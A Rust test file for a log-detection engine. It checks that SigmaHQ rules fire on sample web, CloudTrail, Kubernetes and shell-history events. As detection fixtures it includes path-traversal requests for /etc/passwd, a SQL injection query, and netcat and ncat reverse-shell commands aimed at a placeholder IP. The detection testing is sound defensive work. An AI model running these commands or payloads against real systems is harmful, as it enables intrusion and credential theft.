//! The shipped processing pipelines against real rules and real events:
//! SigmaHQ rules (../shared/sigma/sigmahq, Detection Rule License) for web
//! servers, proxies, CloudTrail, Kubernetes audit and Linux are rewritten by
//! `Pipeline::builtin()`, compiled, routed, and run over events the
//! normalizer makes of hand-written log lines.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::{Arc, LazyLock};

use detections::pipeline::{apply_all, route_all};
use detections::rule::{Rule, rule_from_yaml};
use detections::{LogSource, Pipeline, Route};
use normalizer::{Normalizer, Options, Output, Registry};
use schema::{Event, RawRecord, Source, Timestamp};
use serde::Deserialize;
use serde_norway::Value as Y;

static NORM: LazyLock<Normalizer> =
    LazyLock::new(|| Normalizer::new(Registry::builtin(), Options::default()));
static PIPELINES: LazyLock<Vec<Pipeline>> = LazyLock::new(Pipeline::builtin);

fn corpus() -> PathBuf {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/sigma/sigmahq");
    assert!(
        p.is_dir(),
        "the SigmaHQ corpus is expected at {} (the project's shared reference data)",
        p.display()
    );
    p
}

/// One log line through the normalizer with a named format.
fn normalize(format: &str, line: &str) -> Event {
    let source = Arc::new(Source {
        kind: "file",
        name: "test.log".into(),
        format: Some(format.to_string()),
    });
    let mut stream = NORM.stream(source.clone(), Some(Timestamp(1_795_999_999_000_000_000)));
    let mut out = Vec::new();
    stream.push(
        RawRecord {
            bytes: line.as_bytes().to_vec().into(),
            source,
            offset: 0,
            line: 1,
            received: Timestamp(1_795_999_999_000_000_000),
            overflow_len: None,
        },
        &mut out,
    );
    stream.finish(&mut out);
    match out.as_slice() {
        [Output::Event(e)] => e.clone(),
        other => panic!("`{line}` with {format}: {other:?}"),
    }
}

/// A rule as the engine will see it: pipelines applied, compiled, routed.
struct Prepared {
    rule: Rule,
    route: Route,
}

impl Prepared {
    fn fires(&self, ev: &Event) -> bool {
        self.route.matches(ev) && self.rule.detection.matches(ev)
    }
}

fn prepare_doc(mut doc: Y, what: &str) -> Prepared {
    apply_all(&PIPELINES, &mut doc).unwrap_or_else(|e| panic!("{what}: {e}"));
    let rule = rule_from_yaml(&doc, &Default::default())
        .unwrap_or_else(|p| panic!("{what}: {}", p.message));
    let route = route_all(&PIPELINES, &rule.logsource)
        .unwrap_or_else(|| panic!("{what}: no route for {:?}", rule.logsource));
    Prepared { rule, route }
}

fn sigmahq(rel: &str) -> Prepared {
    let path = corpus().join(rel);
    let text = std::fs::read_to_string(&path).unwrap();
    prepare_doc(serde_norway::from_str(&text).unwrap(), rel)
}

// ------------------------------------------------------------- web servers

const MLFLOW_SEARCH: &str = r#"203.0.113.9 - alice [30/Nov/2026:10:16:45 +0000] "GET /api/2.0/mlflow/experiments/search?max_results=10 HTTP/1.1" 200 512 "-" "python-requests/2.32.3""#;

#[test]
fn sigmahq_path_traversal_fires_on_an_access_line() {
    let r = sigmahq("rules/web/webserver_generic/web_path_traversal_exploitation_attempt.yml");
    let attack = normalize(
        "combined",
        r#"198.51.100.4 - - [30/Nov/2026:10:17:01 +0000] "GET /get-artifact?path=../../../etc/passwd&run_uuid=1 HTTP/1.1" 400 31 "-" "curl/8.5.0""#,
    );
    assert!(r.fires(&attack), "{}", attack.to_json_string());
    // The same in the path, ingress-nginx's format.
    let ingress = normalize(
        "nginx.ingress",
        r#"10.244.0.1 - - [30/Nov/2026:10:15:02 +0000] "GET /static/../../../etc/shadow HTTP/1.1" 404 0 "-" "curl/8.5.0" 311 0.012 [mlflow-80] [] 10.244.1.17:5000 0 0.011 404 5f1c3e5b2a1d4c7e9b0a8d6f4e2c1a0b"#,
    );
    assert!(r.fires(&ingress), "{}", ingress.to_json_string());
    assert!(!r.fires(&normalize("combined", MLFLOW_SEARCH)));
}

#[test]
fn sigmahq_scanner_user_agents_fire() {
    let r = sigmahq("rules/web/webserver_generic/web_susp_useragents.yml");
    let scan = normalize(
        "mlflow.gunicorn_access",
        r#"198.51.100.4 - - [30/Nov/2026:10:17:01 +0000] "GET /api/2.0/mlflow/registered-models/search HTTP/1.1" 200 17 "-" "sqlmap/1.8.4#stable (https://sqlmap.org)""#,
    );
    assert!(r.fires(&scan), "{}", scan.to_json_string());
    assert!(!r.fires(&normalize("mlflow.gunicorn_access", MLFLOW_SEARCH)));
}

#[test]
fn sigmahq_sql_injection_fires_unless_the_status_is_404() {
    let r = sigmahq("rules/web/webserver_generic/web_sql_injection_in_access_logs.yml");
    let line = |status: u16| {
        format!(
            r#"198.51.100.4 - - [30/Nov/2026:10:17:01 +0000] "GET /api/2.0/mlflow/runs/search?filter=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" {status} 90 "-" "Mozilla/5.0""#
        )
    };
    assert!(r.fires(&normalize("combined", &line(200))));
    // `filter_main_status: sc-status: 404`: the mapping of sc-status works.
    assert!(!r.fires(&normalize("combined", &line(404))));
    assert!(!r.fires(&normalize("combined", MLFLOW_SEARCH)));
}

#[test]
fn sigmahq_f5_bash_api_matches_the_request_target() {
    // `cs-uri-query|endswith: '/mgmt/tm/util/bash'`: the path, not the query.
    let r = sigmahq("rules/web/webserver_generic/web_f5_tm_utility_bash_api_request.yml");
    let hit = normalize(
        "combined",
        r#"198.51.100.4 - admin [30/Nov/2026:10:17:01 +0000] "POST /mgmt/tm/util/bash HTTP/1.1" 200 90 "-" "curl/8.5.0""#,
    );
    assert!(r.fires(&hit), "{}", hit.to_json_string());
    let get = normalize(
        "combined",
        r#"198.51.100.4 - admin [30/Nov/2026:10:17:01 +0000] "GET /mgmt/tm/util/bash HTTP/1.1" 200 90 "-" "curl/8.5.0""#,
    );
    assert!(!r.fires(&get));
}

#[test]
fn webserver_keyword_rules_only_see_web_events() {
    // `keywords: ['.git/']` would match any event mentioning it; the route
    // keeps the rule to access logs.
    let r = sigmahq("rules/web/webserver_generic/web_source_code_enumeration.yml");
    let web = normalize(
        "combined",
        r#"198.51.100.4 - - [30/Nov/2026:10:17:01 +0000] "GET /.git/config HTTP/1.1" 404 0 "-" "curl/8.5.0""#,
    );
    assert!(r.fires(&web));
    let shell = normalize("shell.history", "cat repo/.git/config");
    assert!(r.rule.detection.matches(&shell), "the keyword is there");
    assert!(!r.route.matches(&shell), "but the route excludes it");
    assert!(!r.fires(&shell));
}

// ---------------------------------------------------------------- CloudTrail

fn cloudtrail(event_source: &str, event_name: &str, extra: &str) -> Event {
    normalize(
        "aws.cloudtrail",
        &format!(
            r#"{{"eventVersion":"1.10","userIdentity":{{"type":"IAMUser","principalId":"AIDAEXAMPLE","arn":"arn:aws:iam::123456789012:user/ml-pipeline","accountId":"123456789012","userName":"ml-pipeline"}},"eventTime":"2026-11-30T10:30:00Z","eventSource":"{event_source}","eventName":"{event_name}","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.23","userAgent":"aws-cli/2.15.0","eventID":"3b5f2c1e-8a7d-4e6f-9b0c-1d2e3f4a5b6c","readOnly":false,"eventType":"AwsApiCall","recipientAccountId":"123456789012"{extra}}}"#
        ),
    )
}

#[test]
fn sigmahq_cloudtrail_disable_logging_fires() {
    let r = sigmahq("rules/cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml");
    let stop = cloudtrail(
        "cloudtrail.amazonaws.com",
        "StopLogging",
        r#","requestParameters":{"name":"management-events"}"#,
    );
    assert!(r.fires(&stop), "{}", stop.to_json_string());
    assert!(!r.fires(&cloudtrail(
        "cloudtrail.amazonaws.com",
        "StartLogging",
        r#","requestParameters":{"name":"management-events"}"#
    )));
    assert!(!r.fires(&cloudtrail(
        "s3.amazonaws.com",
        "GetObject",
        r#","requestParameters":{"bucketName":"ml-models","key":"m.pkl"}"#
    )));
}

#[test]
fn sigmahq_console_login_without_mfa_fires() {
    let r =
        sigmahq("rules/cloud/aws/cloudtrail/aws_cloudtrail_console_login_success_without_mfa.yml");
    let login = |mfa: &str| {
        cloudtrail(
            "signin.amazonaws.com",
            "ConsoleLogin",
            &format!(
                r#","requestParameters":null,"responseElements":{{"ConsoleLogin":"Success"}},"additionalEventData":{{"LoginTo":"https://console.aws.amazon.com/","MobileVersion":"No","MFAUsed":"{mfa}"}}"#
            ),
        )
    };
    let ev = login("No");
    assert!(r.fires(&ev), "{}", ev.to_json_string());
    assert!(!r.fires(&login("Yes")));
}

#[test]
fn sigmahq_disable_bucket_versioning_searches_the_record_text() {
    // `requestParameters|contains: 'Suspended'`: an object searched as text.
    let r = sigmahq("rules/cloud/aws/cloudtrail/aws_disable_bucket_versioning.yml");
    let versioning = |status: &str| {
        cloudtrail(
            "s3.amazonaws.com",
            "PutBucketVersioning",
            &format!(
                r#","requestParameters":{{"bucketName":"ml-models","VersioningConfiguration":{{"Status":"{status}","xmlns":"http://s3.amazonaws.com/doc/2006-03-01/"}},"versioning":""}}"#
            ),
        )
    };
    assert!(r.fires(&versioning("Suspended")));
    assert!(!r.fires(&versioning("Enabled")));
}

// ------------------------------------------------------- Kubernetes, Linux

fn k8s_audit(verb: &str, resource: &str, sub: Option<&str>) -> Event {
    let sub = sub.map_or(String::new(), |s| format!(r#","subresource":"{s}""#));
    normalize(
        "kubernetes.audit",
        &format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/ml/pods/train-0/exec?command=sh","verb":"{verb}","user":{{"username":"alice","groups":["system:authenticated"]}},"sourceIPs":["10.0.0.1"],"userAgent":"kubectl/v1.31.0","objectRef":{{"resource":"{resource}","namespace":"ml","name":"train-0","apiVersion":"v1"{sub}}},"responseStatus":{{"metadata":{{}},"code":101}},"requestReceivedTimestamp":"2026-11-30T10:20:00.123456Z","stageTimestamp":"2026-11-30T10:20:00.2Z"}}"#
        ),
    )
}

#[test]
fn sigmahq_kubernetes_exec_into_container_fires() {
    let r = sigmahq("rules/application/kubernetes/audit/kubernetes_audit_exec_into_container.yml");
    let exec = k8s_audit("create", "pods", Some("exec"));
    assert!(r.fires(&exec), "{}", exec.to_json_string());
    assert!(!r.fires(&k8s_audit("get", "pods", None)));
    assert!(!r.fires(&k8s_audit("create", "pods", Some("log"))));
}

#[test]
fn sigmahq_linux_process_rules_fire_on_shell_history() {
    let nc = sigmahq("rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml");
    assert!(nc.fires(&normalize(
        "shell.history",
        "nc -e /bin/sh 203.0.113.7 4444"
    )));
    assert!(nc.fires(&normalize(
        "shell.history",
        "/usr/bin/ncat -c /bin/bash 203.0.113.7 4444"
    )));
    assert!(!nc.fires(&normalize("shell.history", "nc -zv 10.0.0.5 443")));
    // `Image|endswith: '/nc'` is the exact name `nc`, not any name ending so.
    assert!(!nc.fires(&normalize("shell.history", "sync -e /bin/sh")));

    let pty = sigmahq("rules/linux/process_creation/proc_creation_lnx_python_pty_spawn.yml");
    let spawn = normalize(
        "shell.history",
        r#"python3 -c 'import pty; pty.spawn("/bin/bash")'"#,
    );
    assert!(pty.fires(&spawn), "{}", spawn.to_json_string());
    assert!(!pty.fires(&normalize("shell.history", "python3 -m http.server")));
}

// ---------------------------------------------------------- mlsoc's own rules

#[test]
fn own_rules_route_by_component_and_dataset() {
    let doc: Y = serde_norway::from_str(
        r#"
title: MLflow user created over HTTP
logsource: {category: webserver, product: mlflow}
detection:
  sel:
    cs-method: POST
    cs-uri-stem|endswith: /users/create
  condition: sel
"#,
    )
    .unwrap();
    let r = prepare_doc(doc, "own rule");
    let create = r#"203.0.113.9 - admin [30/Nov/2026:10:16:45 +0100] "POST /api/2.0/mlflow/users/create HTTP/1.1" 200 54 "-" "curl/8.5.0""#;
    assert!(r.fires(&normalize("combined", create)));
    assert!(r.fires(&normalize("mlflow.gunicorn_access", create)));
    // Same request to another component: not MLflow.
    let ray = normalize(
        "nginx.ingress",
        r#"203.0.113.45 - - [30/Nov/2026:10:16:20 +0000] "POST /api/users/create HTTP/1.1" 200 228 "-" "python-requests/2.28.1" 412 0.019 [ray-ray-head-svc-8265] [] 10.244.2.8:8265 228 0.018 200 9a8b7c6d5e4f30211203f4e5d6c7b8a9"#,
    );
    assert!(r.rule.detection.matches(&ray));
    assert!(!r.fires(&ray), "{}", ray.to_json_string());
}

// ------------------------------------------------------- the whole corpus

/// Fields SigmaHQ rules of the mapped log sources use that mlsoc's events
/// have no equivalent for (docs/pipelines.md lists them): after the
/// pipelines they keep their Sigma names.
const UNMAPPED: &[&str] = &[
    "cs-cookie", // webserver/proxy: cookies are not logged
    "LogonId",   // linux process_creation: no logon sessions
];

fn documents(text: &str) -> Vec<Y> {
    serde_norway::Deserializer::from_str(text)
        .filter_map(|d| Y::deserialize(d).ok())
        .collect()
}

fn is_mapped_source(ls: &LogSource) -> bool {
    let is = |v: &Option<String>, w: &str| v.as_deref() == Some(w);
    is(&ls.category, "webserver")
        || is(&ls.category, "proxy")
        || (is(&ls.product, "aws") && is(&ls.service, "cloudtrail"))
        || is(&ls.product, "kubernetes")
        || (is(&ls.product, "linux")
            && (is(&ls.category, "process_creation")
                || is(&ls.service, "auditd")
                || is(&ls.service, "sudo")))
}

fn fields_of(v: &Y, out: &mut BTreeSet<String>) {
    match v {
        Y::Mapping(m) => {
            for (k, val) in m {
                let Some(key) = k.as_str() else { continue };
                let mut parts = key.split('|');
                let field = parts.next().unwrap_or("").trim();
                if !field.is_empty() {
                    out.insert(field.to_string());
                }
                if parts.any(|m| m == "fieldref") {
                    match val {
                        Y::String(s) => {
                            out.insert(s.clone());
                        }
                        Y::Sequence(items) => {
                            out.extend(items.iter().filter_map(|i| i.as_str().map(String::from)))
                        }
                        _ => {}
                    }
                }
            }
        }
        Y::Sequence(items) => items.iter().for_each(|i| fields_of(i, out)),
        _ => {}
    }
}

fn logsource_of(doc: &Y) -> LogSource {
    let get = |k: &str| {
        doc.get("logsource")
            .and_then(|l| l.get(k))
            .and_then(Y::as_str)
            .map(String::from)
    };
    LogSource {
        category: get("category"),
        product: get("product"),
        service: get("service"),
        definition: None,
    }
}

fn yml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    for e in rd.filter_map(Result::ok) {
        let p = e.path();
        if p.is_dir() {
            yml_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "yml") {
            out.push(p);
        }
    }
}

#[test]
fn every_sigmahq_rule_of_a_mapped_logsource_is_rewritten_onto_mlsoc_fields() {
    let mut files = Vec::new();
    yml_files(&corpus(), &mut files);
    files.sort();
    let mut rules = 0;
    let mut unmapped: BTreeSet<String> = BTreeSet::new();
    let mut failures = Vec::new();
    for f in &files {
        let Ok(text) = std::fs::read_to_string(f) else {
            continue;
        };
        for mut doc in documents(&text) {
            if doc.get("detection").is_none() || !is_mapped_source(&logsource_of(&doc)) {
                continue;
            }
            rules += 1;
            if let Err(e) = apply_all(&PIPELINES, &mut doc) {
                failures.push(format!("{}: {e}", f.display()));
                continue;
            }
            match rule_from_yaml(&doc, &Default::default()) {
                Ok(rule) => {
                    if route_all(&PIPELINES, &rule.logsource).is_none() {
                        failures.push(format!("{}: no route", f.display()));
                    }
                }
                // Rules with `expand` placeholders are refused without values.
                Err(p) if p.message.contains("has no configured values") => {}
                Err(p) => failures.push(format!("{}: {}", f.display(), p.message)),
            }
            let mut fields = BTreeSet::new();
            if let Some(Y::Mapping(det)) = doc.get("detection") {
                for (k, v) in det {
                    if !matches!(k.as_str(), Some("condition" | "timeframe")) {
                        fields_of(v, &mut fields);
                    }
                }
            }
            for field in fields {
                let known = schema::FieldId::lookup(&field).is_some()
                    || ["aws.cloudtrail.", "kubernetes.audit.", "auditd.log."]
                        .iter()
                        .any(|p| field.starts_with(p));
                if !known {
                    unmapped.insert(field);
                }
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
    assert!(
        rules > 300,
        "only {rules} rules of the mapped log sources found"
    );
    let expected: BTreeSet<String> = UNMAPPED.iter().map(|s| s.to_string()).collect();
    assert_eq!(
        unmapped, expected,
        "fields left with their Sigma names (map them, or list them in UNMAPPED and docs/pipelines.md)"
    );
}

#[test]
fn the_shipped_pipelines_route_the_sigmahq_logsources() {
    let ls = |c: Option<&str>, p: Option<&str>, s: Option<&str>| LogSource {
        category: c.map(Into::into),
        product: p.map(Into::into),
        service: s.map(Into::into),
        definition: None,
    };
    let web = route_all(&PIPELINES, &ls(Some("webserver"), None, None)).unwrap();
    let trail = route_all(&PIPELINES, &ls(None, Some("aws"), Some("cloudtrail"))).unwrap();
    let k8s = route_all(
        &PIPELINES,
        &ls(Some("application"), Some("kubernetes"), Some("audit")),
    )
    .unwrap();
    let proc = route_all(
        &PIPELINES,
        &ls(Some("process_creation"), Some("linux"), None),
    )
    .unwrap();
    let access = normalize("combined", MLFLOW_SEARCH);
    let ct = cloudtrail("s3.amazonaws.com", "GetObject", "");
    let audit = k8s_audit("get", "pods", None);
    let shell = normalize("shell.history", "id");
    let jupyter_access = normalize(
        "jupyter.server",
        "[W 2026-11-30 00:36:42.774 ServerApp] 404 GET /api/contents/../../etc/passwd (1bb84709c39c4f71a291bf62ef0713b9@127.0.0.1) 1.60ms referer=None",
    );
    let jupyter_info = normalize(
        "jupyter.server",
        "[I 2026-11-30 00:36:40.001 ServerApp] Kernel started: 9f1c",
    );
    for (route, yes, name) in [
        (&web, 0, "web"),
        (&trail, 1, "cloudtrail"),
        (&k8s, 2, "k8s"),
        (&proc, 3, "process"),
    ] {
        for (i, ev) in [&access, &ct, &audit, &shell].into_iter().enumerate() {
            assert_eq!(
                route.matches(ev),
                i == yes,
                "{name} route ({route}) on event {i}"
            );
        }
    }
    assert!(web.matches(&jupyter_access));
    assert!(!web.matches(&jupyter_info));
    // Log sources mlsoc has no events of.
    let files = route_all(&PIPELINES, &ls(Some("file_event"), Some("linux"), None)).unwrap();
    assert!(files.matches_nothing());
    assert!(
        route_all(
            &PIPELINES,
            &ls(Some("process_creation"), Some("windows"), None)
        )
        .is_none()
    );
}

#[test]
fn a_pipeline_file_loads_from_disk_and_errors_name_file_and_line() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("pipelines");
    for name in [
        "ecs-webserver.yml",
        "ecs-proxy.yml",
        "ecs-cloudtrail.yml",
        "ecs-kubernetes.yml",
        "ecs-linux.yml",
        "mlsoc-logsources.yml",
    ] {
        let p = Pipeline::load(&dir.join(name)).unwrap();
        assert!(!p.name.is_empty());
    }
    let missing = Pipeline::load(Path::new("/nonexistent/pipeline.yml")).unwrap_err();
    assert!(
        missing
            .to_string()
            .starts_with("/nonexistent/pipeline.yml:0: cannot read"),
        "{missing}"
    );

    let tmp = std::env::temp_dir().join(format!("mlsoc-pipeline-{}.yml", std::process::id()));
    std::fs::write(
        &tmp,
        "name: bad\ntransformations:\n  - type: field_name_mapping\n    mapping:\n      a: b\n    rule_conditions:\n      - type: logsource\n        categroy: webserver\n",
    )
    .unwrap();
    let e = Pipeline::load(&tmp).unwrap_err();
    std::fs::remove_file(&tmp).ok();
    assert_eq!(e.path, tmp);
    assert_eq!(e.line, 8, "{e}");
    assert!(e.message.contains("unknown key `categroy`"), "{e}");
}

/// A rule that names no log source is for every event (a secret in any
/// log line); one for a log source no pipeline maps sees none.
#[test]
fn an_empty_logsource_routes_to_every_event() {
    let loader = detections::Loader::new(Default::default()).with_pipelines(Pipeline::builtin());
    let mut out = detections::Loading::default();
    let text = "title: any\nid: 9c1d7f8e-5a0b-4c3e-9f6a-1b2c3d4e5f60\nlogsource: {}\n\
                detection:\n  kw: ['AKIA']\n  condition: kw\n---\n\
                title: windows\nid: 9c1d7f8e-5a0b-4c3e-9f6a-1b2c3d4e5f61\nlogsource: {product: windows}\n\
                detection:\n  kw: ['AKIA']\n  condition: kw\n";
    loader.load_text(text, Path::new("t.yml"), &mut out);
    assert!(out.errors.is_empty(), "{:?}", out.errors);
    assert!(
        out.rules[0].route.is_none(),
        "an empty logsource sees every event"
    );
    let r = out.rules[1].route.as_ref().expect("a route");
    assert!(r.matches_nothing(), "an unmapped logsource sees no event");
    let ev = normalize(
        "mlflow.uvicorn_access",
        r#"2026/11/30 00:30:56 INFO:     127.0.0.1:54658 - "GET /x?k=AKIAABCDEFGHIJKLMNOP HTTP/1.1" 200 OK"#,
    );
    let (engine, _) = detections::Engine::build(out);
    let mut hits = Vec::new();
    engine.eval(&ev, &mut |i| hits.push(i));
    assert_eq!(hits, vec![0]);
}

/// A daemon leaves out the rules no event can reach, but keeps those a
/// correlation or a filter names (their documents would not resolve
/// otherwise) and every rule some pipeline routes.
#[test]
fn unrouted_rules_are_dropped_unless_named() {
    let loader = detections::Loader::new(Default::default()).with_pipelines(Pipeline::builtin());
    let text = r#"
title: windows process
name: win_proc
logsource: {product: windows, category: process_creation}
detection: {sel: {Image|endswith: '\evil.exe'}, condition: sel}
---
title: windows process named by a correlation
name: win_proc_named
logsource: {product: windows, category: process_creation}
detection: {sel: {Image|endswith: '\other.exe'}, condition: sel}
---
title: windows service named by a filter
id: 6d1f7a52-0f7c-4a4e-9d55-4f0c2f5b3c11
logsource: {product: windows, service: security}
detection: {sel: {EventID: 4625}, condition: sel}
---
title: mlflow search
name: ml_search
logsource: {product: mlflow}
detection: {sel: {url.path|contains: '/search'}, condition: sel}
---
title: burst
correlation: {type: event_count, rules: [win_proc_named, ml_search], group-by: [source.ip], timespan: 5m, condition: {gte: 3}}
---
title: quiet hosts
filter:
  rules: [6d1f7a52-0f7c-4a4e-9d55-4f0c2f5b3c11]
  selection: {Computer: quiet}
  condition: not selection
logsource: {product: windows, service: security}
"#;
    let mut loading = loader.load_texts([(PathBuf::from("rules.yml"), text)]);
    assert!(loading.errors.is_empty(), "{:?}", loading.errors);
    assert_eq!(
        (
            loading.rules.len(),
            loading.correlations.len(),
            loading.filters.len()
        ),
        (4, 1, 1)
    );
    assert_eq!(loading.drop_unrouted(), 1);
    let kept: BTreeSet<&str> = loading
        .rules
        .iter()
        .map(|l| l.rule.title.as_str())
        .collect();
    assert_eq!(
        kept,
        BTreeSet::from([
            "windows process named by a correlation",
            "windows service named by a filter",
            "mlflow search"
        ])
    );
    // Nothing left refers to a rule that is gone.
    let (engine, unresolved) = detections::Engine::build(loading);
    assert!(unresolved.is_empty(), "{unresolved:?}");
    assert_eq!(engine.len(), 3);
}
